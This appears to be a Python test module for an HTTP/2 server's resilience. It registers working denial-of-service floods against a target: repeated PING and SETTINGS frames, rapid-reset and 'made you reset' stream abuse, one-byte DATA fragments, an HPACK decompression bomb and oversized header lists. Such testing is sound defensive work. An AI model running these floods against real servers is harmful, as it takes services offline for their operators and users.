"""Frames that cost a client nothing, as many as it can send. `hostile_frames.py` has their bytes."""


import hostile_frames
from faults import MIB, fault
from hostile_frames import (
    ADD,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    CONTINUATION,
    DATA,
    NEWEST,
    RST_STREAM,
    Raw,
    block,
    field,
    frame,
    message,
)

REQUEST = message(b"\x08\x14\x10\x0a")
CANCEL = b"\0\0\0\x08"


def send_for(scene, batches, connections=2):
    """Sends what `batches` returns for a connection, on new ones when they are closed. Returns what was done and seen."""
    sent = opened = closed = 0
    while_open = []
    for turn in scene.until_end():
        if len(while_open) < connections:
            client = Raw(scene.target)
            client.socket.settimeout(1)
            while_open.append((client, batches()))
            opened += 1
        client, batch = while_open[turn % len(while_open)]
        try:
            data = next(batch)
            client.socket.sendall(data)
            client.wait_until_read()
            sent += len(data)
        except (OSError, StopIteration):
            # Closed by the server, or not read any more: it waits until its own data is read.
            client.socket.close()
            while_open.remove((client, batch))
            closed += 1
    for client, _ in while_open:
        client.socket.close()
    return f"{sent / MIB:.0f} MiB on {opened} connections", f"ended {closed} of them" if closed else "read all of it"


def register(name, first, again, quick):
    """A flood of one frame."""

    def batches():
        yield first
        data = again * (1 + 100_000 // len(again))
        while True:
            yield data

    @fault(f"flood of {name}", quick=quick)
    def flood(scene):
        return send_for(scene, batches)


# tests/hostile_frames.rs has the others.
QUICK = ("PING", "SETTINGS")
for name, (first, again) in hostile_frames.flood_frames().items():
    register(name, first, again, name in QUICK)


def streams(each):
    """Batches of 100 streams, of which `each` returns the frames."""
    for begin in range(1, 2**31 - 201, 200):
        yield b"".join(each(of) for of in range(begin, begin + 200, 2))


opened = lambda of, flags=0: frame(HEADERS, END_HEADERS | flags, of, block(path=ADD))


@fault("rapid reset", quick=True)
def rapid_reset(scene):
    return send_for(scene, lambda: streams(lambda of: opened(of) + frame(RST_STREAM, 0, of, CANCEL)))


@fault("rapid reset after the request")
def rapid_reset_after_request(scene):
    each = lambda of: opened(of) + frame(DATA, END_STREAM, of, REQUEST) + frame(RST_STREAM, 0, of, CANCEL)
    return send_for(scene, lambda: streams(each))


@fault("streams that the server is made to reset")
def made_you_reset(scene):
    each = lambda of: opened(of) + frame(DATA, 0, of, REQUEST) + frame(hostile_frames.WINDOW_UPDATE, 0, of, bytes(4))
    return send_for(scene, lambda: streams(each))


@fault("DATA in fragments of one byte", quick=True)
def fragments(scene):
    each = lambda of: opened(of) + b"".join(frame(DATA, 0, of, REQUEST[at : at + 1]) for at in range(len(REQUEST)))
    return send_for(scene, lambda: streams(lambda of: each(of) + frame(DATA, END_STREAM, of)))


@fault("a request of 4 MiB in fragments", memory=100 * MIB)
def tiny_frames(scene):
    for times in scene.until_end():
        hostile_frames.tiny_frames(scene.target, scene.server.process.pid)
    return f"4 MiB in frames of one byte, {times + 1} times", "answered each"


@fault("HPACK bomb", quick=True)
def hpack_bomb(scene):
    def batches():
        large = field("key", "x" * 120, indexed=True)
        for of in range(1, 2**31, 2):
            # 16,000 references to one field in one frame: 16 KB become 2 MB.
            yield frame(HEADERS, 0, of, block(large, path=ADD)) + frame(CONTINUATION, END_HEADERS, of, NEWEST * 16_000)

    return send_for(scene, batches)


@fault("changes of the HPACK table's size")
def table_sizes(scene):
    # Each block sets the table to 0 and back to 4096, and fills it.
    fill = field("key", "x" * 120, indexed=True) * 20
    each = lambda of: frame(HEADERS, END_HEADERS | END_STREAM, of, b"\x20\x3f\xe1\x1f" + block(fill, path=ADD))
    return send_for(scene, lambda: streams(each))


@fault("header lists past the limit", quick=True)
def header_lists(scene):
    large = b"".join(field(f"key{number}", "x" * 120) for number in range(100))
    each = lambda of: frame(HEADERS, END_HEADERS, of, block(large, path=ADD)) + frame(DATA, END_STREAM, of, REQUEST)
    return send_for(scene, lambda: streams(each))
